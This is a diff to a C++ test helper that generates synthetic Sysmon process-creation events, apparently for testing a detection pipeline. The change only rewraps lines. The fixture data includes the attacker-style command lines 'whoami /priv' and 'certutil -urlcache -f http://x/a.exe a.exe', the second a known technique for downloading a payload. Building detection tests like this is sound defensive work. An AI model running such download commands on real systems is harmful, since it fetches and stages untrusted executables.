@@ -28,11 +28,13 @@ std::vector<std::string> events(const std::string& prefix, int n) {
   for (int i = 0; i < n; ++i) {
     const std::string id = prefix + std::to_string(i);
     out.push_back(
-        R"({"@timestamp":")" + e2e::now_rfc3339() + R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+        R"({"@timestamp":")" + e2e::now_rfc3339() +
+        R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
         id +
         R"(w","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"})");
     out.push_back(
-        R"({"@timestamp":")" + e2e::now_rfc3339() + R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+        R"({"@timestamp":")" + e2e::now_rfc3339() +
+        R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
         id +
         R"(c","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe"})");
   }
